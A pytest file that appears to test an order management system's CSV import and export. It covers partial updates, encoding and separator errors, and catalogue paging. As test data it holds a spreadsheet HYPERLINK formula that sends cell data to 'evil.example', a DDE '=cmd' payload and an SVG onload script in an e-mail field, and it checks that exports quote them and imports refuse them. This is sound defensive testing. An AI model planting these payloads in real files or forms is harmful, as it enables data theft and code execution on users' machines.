"""Issue 25, tried from outside with files as people export them from spreadsheets: the
exact reproductions of items 2 (a partial file wiped data), 3 (formula injection in every
export), 30 (huge cells, other encodings, other separators, empty files) and 31's paging
of the console's catalogue."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import time
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlalchemy import insert

from domain.access import Role, SystemRole
from domain.catalogue import ProductRecord, Sourcing
from domain.complaints import ComplaintCategory
from domain.customers import ERASED_EMAIL, ContactRecord, CustomerRecord
from persistence.catalogue_files import Kind, export_text, import_report, import_text
from persistence.csv_files import CsvFileError, read_csv, write_csv
from persistence.customer_files import export_customers, import_customers
from persistence.database import Database
from persistence.models import Product
from persistence.transactions import accounts
from persistence.transactions.catalogue import (
    load_products,
    product_records,
    stock_policy_records,
    stored_record,
    warehouse_records,
)
from persistence.transactions.customers import customer_changes, find_customer, save_customers
from runtime.settings import Settings
from tests.commands import oms
from tests.test_complaint_analysis import WEEK, at, complaint, order
from tests.test_from_outside_api import api, headers, keys  # noqa: F401 - fixtures
from tests.test_web_admin import PASSWORD, log_in
from tests.test_web_stock_operations import text_of
from web.app import create_app
from web.json_body import read_json

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1)", "-2+3"]
"""Product names a spreadsheet would compute if written as they are (the issue's)."""


@pytest.fixture
def client(db: Database, database_url: str) -> Iterator[TestClient]:
    accounts.create_user(db, "kai.wu", PASSWORD, Role.WAREHOUSE, actor="test")
    accounts.create_user(db, "mia.chen", PASSWORD, Role.CUSTOMER_SERVICE, actor="test")
    accounts.create_user(db, "wen.li", PASSWORD, Role.ANALYST, actor="test")
    with TestClient(
        create_app(Settings(database_url=database_url), db), follow_redirects=False
    ) as test_client:
        yield test_client


def retired_valve(db: Database) -> ProductRecord:
    """An inactive product with a supplier and a cost (the issue's product)."""
    record = ProductRecord(
        sku="P-1",
        name="Valve DN50",
        unit="box of 10",
        unit_price=Decimal("88.00"),
        cost=Decimal("41.00"),
        sourcing=Sourcing.BUY,
        lead_time_days=12,
        pack_multiple=5,
        supplier="Armaturen Süd",
        category="valves",
        active=False,
    )
    load_products(db, [record])
    return record


# Item 2: a column that is not in the file leaves that field as it is.


def test_a_partial_products_file_changes_only_its_columns_and_says_which(db: Database) -> None:
    before = retired_valve(db)
    done = import_text(db, Kind.PRODUCTS, "sku,name,unit_price\nP-1,Valve DN50 (PN16),91.50\n")
    assert (done.created, done.updated, done.unchanged) == (0, 1, 0)
    assert import_report(done) == ["0 created, 1 updated, 0 unchanged", "P-1: name, unit_price"]
    after = stored_record(db, ProductRecord, ("P-1",))
    assert after == before.model_copy(
        update={"name": "Valve DN50 (PN16)", "unit_price": Decimal("91.50")}
    )
    assert after is not None
    assert not after.active
    assert after.supplier == "Armaturen Süd"
    again = import_text(db, Kind.PRODUCTS, "sku,name,unit_price\nP-1,Valve DN50 (PN16),91.50\n")
    assert (again.updated, again.unchanged, again.changes) == (0, 1, ())


def test_a_present_but_empty_cell_still_sets_the_default(db: Database) -> None:
    retired_valve(db)
    import_text(db, Kind.PRODUCTS, "sku,supplier\nP-1,\n")
    after = stored_record(db, ProductRecord, ("P-1",))
    assert after is not None
    assert (after.supplier, after.cost) == ("", Decimal("41.00"))


def test_a_new_record_still_needs_its_required_columns_named(db: Database) -> None:
    retired_valve(db)
    with pytest.raises(CsvFileError) as refused:
        import_text(db, Kind.PRODUCTS, "sku,unit_price\nP-1,90.00\nP-NEW,5.00\nP-NEW2,6.00\n")
    assert refused.value.problems == [
        "line 1: required column 'name' is missing, and a new product needs it (lines 3, 4)"
    ]
    kept = stored_record(db, ProductRecord, ("P-1",))
    assert kept is not None
    assert kept.unit_price == Decimal("88.00")
    with pytest.raises(CsvFileError) as keyless:
        import_text(db, Kind.PRODUCTS, "name,unit_price\nValve,90.00\n")
    assert keyless.value.problems == [
        "line 1: required column 'sku' is missing (it names each product)"
    ]


def test_partial_warehouse_and_level_files_keep_the_other_fields(db: Database) -> None:
    [hamburg] = [w for w in warehouse_records(db) if w.id == "WH-HAM"]
    done = import_text(db, Kind.WAREHOUSES, "id,priority\nWH-HAM,7\n")
    assert import_report(done)[1:] == ["WH-HAM: priority"]
    assert [w for w in warehouse_records(db) if w.id == "WH-HAM"] == [
        hamburg.model_copy(update={"priority": 7})
    ]
    level = stock_policy_records(db)[0]
    changed = import_text(
        db,
        Kind.LEVELS,
        "sku,warehouse_id,safety_stock\n"
        f"{level.sku},{level.warehouse_id},{level.safety_stock + 3}\n",
    )
    assert import_report(changed)[1:] == [f"{level.sku} · {level.warehouse_id}: safety_stock"]
    assert stock_policy_records(db)[0] == level.model_copy(
        update={"safety_stock": level.safety_stock + 3}
    )


def test_a_partial_customers_file_keeps_their_other_fields_and_audits_only_the_change(
    db: Database,
) -> None:
    jane = CustomerRecord(
        id="CUST-P1",
        name="Jane Roe",
        email="jane@example.org",
        phone="+49 30 1234",
        billing_city="Berlin",
        payment_terms="net",
        net_days=30,
        credit_limit=Decimal("5000"),
        marketing_consent=True,
        consent_source="signed form",
        notes="prefers mornings",
    )
    save_customers(db, [jane], "test")
    done = import_customers(db, "id,email\nCUST-P1,jane.roe@example.org\n", "mia.chen")
    assert import_report(done) == ["0 created, 1 updated, 0 unchanged", "CUST-P1: email"]
    assert find_customer(db, "CUST-P1") == jane.model_copy(update={"email": "jane.roe@example.org"})
    newest = customer_changes(db, "CUST-P1")
    assert [(c.field, c.actor) for c in newest if c.actor == "mia.chen"] == [("email", "mia.chen")]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_oms_catalogue_import_of_a_partial_file_names_the_changed_fields(
    db: Database, database_url: str, tmp_path: Path
) -> None:
    retired_valve(db)
    partial = tmp_path / "prices.csv"
    partial.write_text("sku,name,unit_price\nP-1,Valve DN50,91.50\n", encoding="utf-8")
    environment = {**os.environ, "OMS_DATABASE_URL": database_url}
    done = oms("catalogue", "import", "products", str(partial), environment=environment)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        f"{partial}: 0 created, 1 updated, 0 unchanged",
        "  P-1: unit_price",
    ]
    after = stored_record(db, ProductRecord, ("P-1",))
    assert after is not None
    assert (after.active, after.cost, after.supplier) == (
        False,
        Decimal("41.00"),
        "Armaturen Süd",
    )
    customers = tmp_path / "customers.csv"
    customers.write_bytes("id,name\nCUST-JANE,Jürgen\n".encode("latin-1"))
    latin = oms("customers", "import", str(customers), "--as", "t", environment=environment)
    assert latin.returncode == 1
    assert f"{customers}: line 2, column 'name': byte 0xFC is not UTF-8" in latin.stderr
    assert "Windows-1252" in latin.stderr
    customers.write_text("id,phone\nCUST-JANE,030 999\n", encoding="utf-8")
    phone = oms("customers", "import", str(customers), "--as", "t", environment=environment)
    assert phone.stdout.splitlines() == [
        f"{customers}: 0 created, 1 updated, 0 unchanged",
        "  CUST-JANE: phone",
    ], phone.stderr


def test_a_partial_file_uploaded_in_the_console_names_the_changed_fields(
    client: TestClient, db: Database
) -> None:
    retired_valve(db)
    token = log_in(client, "kai.wu")
    done = client.post(
        "/stock/catalogue/import",
        data={"csrf_token": token, "kind": "products"},
        files={"file": ("prices.csv", b"sku,name,unit_price\nP-1,Valve DN50,91.50\n")},
    )
    assert done.status_code == 200
    assert "prices.csv: 0 created, 1 updated, 0 unchanged (P-1: unit_price)" in text_of(done.text)
    kept = stored_record(db, ProductRecord, ("P-1",))
    assert kept is not None
    assert kept.supplier == "Armaturen Süd"
    client.cookies.clear()
    token = log_in(client, "mia.chen")
    customers = client.post(
        "/customers/import",
        data={"csrf_token": token},
        files={"file": ("people.csv", b"id,phone\nCUST-JANE,030 999\n")},
    )
    assert customers.status_code == 303
    assert "people.csv: 0 created, 1 updated, 0 unchanged (CUST-JANE: phone)" in unquote(
        customers.headers["location"]
    )
    jane = find_customer(db, "CUST-JANE")
    assert jane is not None
    assert jane.phone == "030 999"
    assert jane.email


# Item 3: formula injection in every export, and the round trip.


def test_the_catalogue_export_neutralises_formulas_and_imports_back_the_same(
    db: Database,
) -> None:
    names = [*FORMULAS, "'=already quoted", "Plain"]
    records = [
        ProductRecord(sku=f"F-{n}", name=name, unit_price=Decimal("1.00"), supplier="@acme")
        for n, name in enumerate(names)
    ]
    load_products(db, records)
    exported = export_text(db, Kind.PRODUCTS)
    cells = {row["sku"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert [cells[f"F-{n}"]["name"] for n in range(len(names))] == [
        *(f"'{name}" for name in FORMULAS),
        "''=already quoted",
        "Plain",
    ]
    assert cells["F-0"]["supplier"] == "'@acme"
    for row in cells.values():  # no cell a spreadsheet would compute
        assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values())
    before = product_records(db)
    done = import_text(db, Kind.PRODUCTS, exported)
    assert (done.created, done.updated) == (0, 0)
    assert product_records(db) == before


def test_numbers_are_written_as_numbers_and_text_that_looks_like_one_is_quoted() -> None:
    text = write_csv(
        ["section", "value", "note"],
        [["trend", Decimal("-2.50"), "-2.50"], ["x", -3, None], ["y", 0, "\tTab"]],
    )
    assert text.splitlines() == [
        "section,value,note",
        "trend,-2.50,'-2.50",
        "x,-3,",
        "y,0,'\tTab",
    ]
    table = read_csv(text, required=["section"])
    assert [row.cells for row in table.rows] == [
        {"section": "trend", "value": "-2.50", "note": "-2.50"},
        {"section": "x", "value": "-3", "note": ""},
        {"section": "y", "value": "0", "note": "\tTab"},
    ]


def test_customers_export_neutralises_formulas_and_round_trips(db: Database) -> None:
    sneaky = CustomerRecord(
        id="CUST-F1",
        name="=cmd|' /C calc'!A0",
        email="f@example.org",
        phone="+49 30 1234",
        contact_person="@Boss",
        tags="-vip",
    )
    save_customers(db, [sneaky], "test")
    exported = export_customers(db)
    [row] = [r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == "CUST-F1"]
    assert (row["name"], row["phone"], row["contact_person"], row["tags"]) == (
        "'=cmd|' /C calc'!A0",
        "'+49 30 1234",
        "'@Boss",
        "'-vip",
    )
    done = import_customers(db, exported, "test")
    assert done.updated == 0
    assert find_customer(db, "CUST-F1") == sneaky


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_consoles_csv_downloads_neutralise_formulas(client: TestClient, db: Database) -> None:
    load_products(db, [ProductRecord(sku="F-1", name="@SUM(1)", unit_price=Decimal("1.00"))])
    save_customers(db, [CustomerRecord(id="CUST-F2", name="+1+1", email="g@example.org")], "test")
    order(db, "FX1", "WIDGET-1", at(23, 8), '=HYPERLINK("http://evil.example")')
    complaint(db, "FX1", ComplaintCategory.DAMAGED, received_at=at(23, 10))
    log_in(client, "kai.wu")
    products = client.get("/stock/catalogue/products.csv")
    assert "F-1,'@SUM(1)," in products.text
    client.cookies.clear()
    log_in(client, "mia.chen")
    customers = client.get("/customers/export.csv")
    assert "CUST-F2,company,'+1+1," in customers.text
    client.cookies.clear()
    log_in(client, "wen.li")
    analysis = client.get(f"/complaints/analysis.csv?week={WEEK}")
    assert analysis.status_code == 200, analysis.text
    assert 'carrier,"\'=HYPERLINK(""http://evil.example"")",1,1,100.0,' in analysis.text


# Item 30: files a spreadsheet or a person makes that the importer could not read.


def test_a_cell_over_the_csv_limit_is_named_by_line_and_column(
    db: Database, client: TestClient
) -> None:
    huge = "sku,name,unit_price\nOK-1,Fine,1.00\nBIG-1," + "x" * 131_073 + ",1.00\n"
    with pytest.raises(CsvFileError) as refused:
        import_text(db, Kind.PRODUCTS, huge)
    assert refused.value.problems == [
        "line 3, column 'name': a cell longer than 131,072 characters, more than any column "
        'takes; if a quote (") opens the cell, close it where the cell ends'
    ]
    unclosed = 'sku,name,unit_price\nOK-1,"Fine,1.00\n' + "y,z,1\n" * 30_000
    with pytest.raises(CsvFileError) as open_quote:
        import_text(db, Kind.PRODUCTS, unclosed)
    assert open_quote.value.problems[0].startswith("line 2, column 'name': a cell longer")
    token = log_in(client, "kai.wu")
    uploaded = client.post(
        "/stock/catalogue/import",
        data={"csrf_token": token, "kind": "products"},
        files={"file": ("big.csv", huge.encode())},
    )
    assert uploaded.status_code == 422
    assert "line 3, column 'name': a cell longer than 131,072 characters" in text_of(uploaded.text)


def test_a_file_that_is_not_utf8_is_named_by_line_and_column(client: TestClient) -> None:
    token = log_in(client, "kai.wu")
    latin = "sku,name,unit_price\nOK-1,Fine,1.00\nOK-2,Grüße,2.00\n".encode("cp1252")
    uploaded = client.post(
        "/stock/catalogue/import",
        data={"csrf_token": token, "kind": "products"},
        files={"file": ("latin.csv", latin)},
    )
    assert uploaded.status_code == 422
    assert (
        "latin.csv: line 3, column 'name': byte 0xFC is not UTF-8 (it looks like "
        "Windows-1252/Latin-1, a spreadsheet's older CSV format); save the file as UTF-8"
    ) in text_of(uploaded.text)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "sku;name;unit_price\nP-1;Valve;1,50\n",
            "line 1: the columns are separated by semicolons (;), not commas; save the file "
            "as comma-separated values (spreadsheets: “CSV UTF-8 (comma delimited)”), the "
            "first line like sku,name,unit_price",
        ),
        (
            "",
            "the file is empty: its first line names the columns (at least "
            "sku,name,unit_price), and each line below it is one row",
        ),
        ("\n\n", "the file is empty"),
        (
            "sku,name,unit_price\n",
            "the file names its columns (sku,name,unit_price) but has no rows below them",
        ),
        (
            "sku,name,unit_price\nP-1,Valve,1,50\n",
            'line 2: 4 cells where the first line names 3 columns; quote (") a cell that '
            "holds a comma",
        ),
    ],
)
def test_other_separators_and_empty_files_say_what_is_wrong(
    db: Database, text: str, problem: str
) -> None:
    with pytest.raises(CsvFileError) as refused:
        import_text(db, Kind.PRODUCTS, text)
    assert len(refused.value.problems) == 1
    assert refused.value.problems[0].startswith(problem)


# The outside tester's second round: a quote never closed, a row cut short.

UNCLOSED = 'line 2: a quoted cell is never closed (a " opens it; close it, or double a " inside it)'


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_unclosed_quote_refuses_the_whole_file_from_the_command_line(
    db: Database, database_url: str, tmp_path: Path
) -> None:
    load_products(db, [ProductRecord(sku="HX-2", name="Widget", unit_price=Decimal("3.00"))])
    products = tmp_path / "s.csv"
    products.write_text(
        'sku,name,unit_price\nHX-2,"Widget 10"" wide,3.00\nHX-3,Other,4.00\nHX-4,Third,5.00\n',
        encoding="utf-8",
    )
    environment = {**os.environ, "OMS_DATABASE_URL": database_url}
    done = oms("catalogue", "import", "products", str(products), environment=environment)
    assert done.returncode == 1
    assert f"{products}: {UNCLOSED}" in done.stderr
    kept = stored_record(db, ProductRecord, ("HX-2",))
    assert kept is not None
    assert kept.name == "Widget"
    assert stored_record(db, ProductRecord, ("HX-3",)) is None


def test_an_unclosed_quote_in_an_uploaded_customers_file_changes_nothing(
    client: TestClient, db: Database
) -> None:
    before = find_customer(db, "CUST-BOLT")
    token = log_in(client, "mia.chen")
    uploaded = client.post(
        "/customers/import",
        data={"csrf_token": token},
        files={"file": ("notes.csv", b'id,notes\nCUST-BOLT,"oops\nCUST-JANE,hi\n')},
    )
    assert uploaded.status_code == 422
    assert f"Nothing was imported: {UNCLOSED}" in text_of(uploaded.text)
    assert find_customer(db, "CUST-BOLT") == before


def test_a_quoted_cell_may_still_span_lines(db: Database) -> None:
    done = import_customers(
        db, 'id,notes\nCUST-BOLT,"gate code 1234\nring twice"\nCUST-JANE,hi\n', "mia.chen"
    )
    assert import_report(done)[0] == "0 created, 2 updated, 0 unchanged"
    bolt, jane = find_customer(db, "CUST-BOLT"), find_customer(db, "CUST-JANE")
    assert bolt is not None
    assert jane is not None
    assert (bolt.notes, jane.notes) == ("gate code 1234\nring twice", "hi")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "sku,name,unit_price\nHX-1,x\n",
            "line 2: 2 cells where the first line names 3 columns; give every column a cell "
            "(an empty one is two commas side by side)",
        ),
        (
            'sku,name,unit_price\nHX-1,"x" wide,1.00\n',
            'line 2: a quoted cell goes on after the " that closes it; quote the whole cell '
            'and double a " inside it',
        ),
    ],
)
def test_a_short_row_or_a_cell_after_its_quote_is_refused(
    db: Database, text: str, problem: str
) -> None:
    with pytest.raises(CsvFileError) as refused:
        import_text(db, Kind.PRODUCTS, text)
    assert refused.value.problems == [problem]
    assert stored_record(db, ProductRecord, ("HX-1",)) is None


def test_a_spreadsheets_trailing_empty_columns_still_need_no_cells() -> None:
    table = read_csv("sku,name,unit_price,,\nHX-1,x,1.00\nHX-2,y,2.00,,\n", required=["sku"])
    assert [row.cells for row in table.rows] == [
        {"sku": "HX-1", "name": "x", "unit_price": "1.00"},
        {"sku": "HX-2", "name": "y", "unit_price": "2.00"},
    ]


SCRIPT_ADDRESS = 'x"><svg/onload=alert(3)>@example.org'
"""The tester's e-mail address: markup, not an address a mail server takes."""
NOT_AN_ADDRESS = (
    "not an e-mail address a mail server takes; write it as name@example.org, without "
    'spaces, quotes or <>(),;:"[]\\'
)


def test_a_customers_file_with_an_address_that_is_markup_is_refused(db: Database) -> None:
    before = find_customer(db, "CUST-JANE")
    with pytest.raises(CsvFileError) as refused:
        import_customers(db, f"id,email\nCUST-JANE,{SCRIPT_ADDRESS}\n", "mia.chen")
    assert refused.value.problems == [f"line 2: email: {NOT_AN_ADDRESS}"]
    assert find_customer(db, "CUST-JANE") == before


@pytest.mark.parametrize(
    "address", [SCRIPT_ADDRESS, "jane@bolt,example.org", "jane@localhost.localhost"]
)
def test_customer_and_contact_records_refuse_what_is_not_an_address(address: str) -> None:
    # A customer's address of the right shape is the record's refusal (409 over the API,
    # as its other rules; the document itself is well formed); a contact's is its field's.
    record = CustomerRecord(id="CUST-X", name="X", email=address)
    assert record.problem() == f"email: {NOT_AN_ADDRESS}"
    with pytest.raises(ValidationError, match="not an e-mail address"):
        ContactRecord(name="X", email=address)


@pytest.mark.parametrize(
    "address", ["jane@example.org", "Jürgen.Groß@straße.example", "a+b@bolt.example", ERASED_EMAIL]
)
def test_addresses_people_have_and_the_erased_placeholder_are_kept_as_written(
    address: str,
) -> None:
    kept = CustomerRecord(id="CUST-X", name="X", email=address)
    assert (kept.email, kept.problem()) == (address, None)
    assert ContactRecord(name="X", email=address).email == address
    assert ContactRecord(name="X").email == ""


def test_the_api_refuses_an_address_that_is_markup(
    api: TestClient,  # noqa: F811
    keys: dict[SystemRole, str],  # noqa: F811
) -> None:
    sent = [{"id": "CUST-OUT", "name": "Outside Ltd", "email": SCRIPT_ADDRESS}]
    answer = api.post("/api/v1/customers", json=sent, headers=headers(keys[SystemRole.CRM]))
    assert answer.status_code == 409
    assert "email: not an e-mail address" in answer.json()["detail"]
    assert "<svg" not in answer.text


def test_a_json_body_after_a_byte_order_mark_is_read(
    api: TestClient,  # noqa: F811
    keys: dict[SystemRole, str],  # noqa: F811
    db: Database,
) -> None:
    assert read_json(b"\xef\xbb\xbf" + b'{"a": [1]}') == {"a": [1]}
    sent = [{"id": "CUST-BOM", "name": "Notepad Ltd", "email": "buyer@notepad.example"}]
    body = codecs.BOM_UTF8 + json.dumps(sent).encode()
    answer = api.post("/api/v1/customers", content=body, headers=headers(keys[SystemRole.CRM]))
    assert answer.status_code == 200, answer.text
    saved = find_customer(db, "CUST-BOM")
    assert saved is not None
    assert saved.name == "Notepad Ltd"
    latin = codecs.BOM_UTF8 + b'[{"id": "CUST-BOM",\n "name": "Caf\xe9"}]'
    refused = api.post("/api/v1/customers", content=latin, headers=headers(keys[SystemRole.CRM]))
    assert refused.status_code == 400
    where = latin.index(b"\xe9")
    assert refused.json()["detail"].startswith(f"byte {where} (line 2) is not UTF-8")


# Item 31: the console's catalogue a page at a time.


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_fifty_thousand_products_are_paged_and_the_links_keep_the_search(
    client: TestClient, db: Database
) -> None:
    with db.transaction() as session:
        session.execute(
            insert(Product),
            [
                {
                    "sku": f"BULK-{n:05}",
                    "name": f"Rivet M{n % 30}" if n % 2 else f"Nut M{n % 30}",
                    "unit_price": Decimal("0.10"),
                    "currency": "EUR",
                    "sourcing": "buy",
                }
                for n in range(50_000)
            ],
        )
    log_in(client, "wen.li")
    started = time.monotonic()
    first = client.get("/stock/catalogue")
    took = time.monotonic() - started
    assert first.status_code == 200
    assert len(first.content) < 300_000
    assert took < 10  # the size is the proof; 11 s was the whole list on an idle machine
    assert first.text.count("/stock/products/") == 100
    assert 'href="/stock/catalogue?page=2" rel="next"' in first.text
    bolts = client.get("/stock/catalogue", params={"q": "rivet"})
    assert 'href="/stock/catalogue?q=rivet&amp;page=2" rel="next"' in bolts.text
    assert "Page 1 of 250" in text_of(bolts.text)
    second = client.get("/stock/catalogue", params={"q": "rivet", "page": "2"})
    assert 'href="/stock/catalogue?q=rivet&amp;page=1" rel="prev"' in second.text
    assert "BULK-00201" in second.text
    assert "BULK-00200" not in second.text
    last = client.get("/stock/catalogue", params={"q": "rivet", "page": "9999"})
    assert "Page 250 of 250" in text_of(last.text)
    assert 'rel="next"' not in last.text
    for wrong in ("", "x", "-1", "0"):
        shown = client.get("/stock/catalogue", params={"q": "", "page": wrong})
        assert shown.status_code == 200
        assert "Page 1 of 501" in text_of(shown.text)
